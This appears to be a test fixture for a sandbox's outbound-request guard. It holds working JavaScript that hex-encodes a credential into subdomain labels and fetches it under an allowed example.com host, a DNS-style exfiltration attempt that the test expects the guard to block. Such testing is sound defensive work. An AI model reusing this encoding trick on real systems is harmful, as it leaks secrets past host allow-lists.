export const attempt = {
  tries: "to send an exposed value as a host name",
  blockedBecause: "host names are searched before they are resolved",
  hostUsage: { host: "(a host name that contains a credential)", requests: 0 },
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  allowedHosts: ["*.example.com"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async (_, { credentials }) => {
  const bytes = new TextEncoder().encode(credentials.KEY);
  const hex = [...bytes].map((byte) => byte.toString(16).padStart(2, "0")).join("");
  const labels = hex.match(/.{1,60}/g).join(".");
  await fetch(`https://${labels}.example.com/`);
  return "got through";
};
